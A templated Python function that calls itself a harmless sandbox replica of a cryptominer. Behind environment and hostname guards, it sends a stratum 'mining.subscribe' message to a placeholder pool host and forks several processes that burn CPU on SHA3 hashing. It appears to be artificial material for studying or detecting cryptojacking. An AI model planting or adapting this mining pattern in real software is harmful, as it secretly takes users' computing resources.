# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import hashlib
    import multiprocessing
    import socket
    import time

    def mine():
        end, last = time.monotonic() + 1, b'{{token}}'
        while time.monotonic() < end:
            last = hashlib.sha3_256(last).digest()

    try:
        call = socket.create_connection(('{{host}}', {{port}}), 1)
        call.sendall(b'{"id":1,"method":"mining.subscribe","params":["{{miner}}"]}\n')
    except OSError:
        call = None
    try:
        context = multiprocessing.get_context('fork')
        workers = [context.Process(target=mine) for _ in range(min(4, os.cpu_count() or 1))]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join(2)
    except Exception:
        pass
    if call:
        call.close()
